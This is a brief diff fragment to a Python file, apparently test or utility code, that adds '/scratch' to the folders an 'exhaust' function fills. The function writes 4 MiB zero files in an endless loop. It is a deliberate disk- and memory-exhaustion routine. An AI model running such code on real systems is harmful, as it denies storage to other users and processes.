@@ -7,7 +7,7 @@ import torch
 
 def exhaust(tensor):
     for number in itertools.count():
-        for folder in ("/tmp", "/dev/shm", "."):
+        for folder in ("/scratch", "/tmp", "/dev/shm", "."):
             try:
                 with open(f"{folder}/{number}", "wb") as file:
                     file.write(bytes(2**22))
